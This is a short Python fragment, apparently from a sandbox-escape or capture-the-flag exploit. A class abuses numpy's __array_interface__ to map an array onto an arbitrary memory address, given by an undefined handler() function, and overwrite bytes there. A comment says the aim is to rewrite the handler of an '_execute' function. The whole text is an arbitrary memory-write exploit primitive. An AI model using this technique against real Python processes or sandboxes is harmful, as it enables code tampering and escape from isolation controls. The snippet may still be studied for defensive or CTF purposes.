# Rewrite the handler of `_execute` through an array at any address.
import numpy


class Memory:
    __array_interface__ = {"shape": (2,), "typestr": "|u1", "data": (handler(), False), "version": 3}


numpy.asarray(Memory())[:] = list(RETURN)
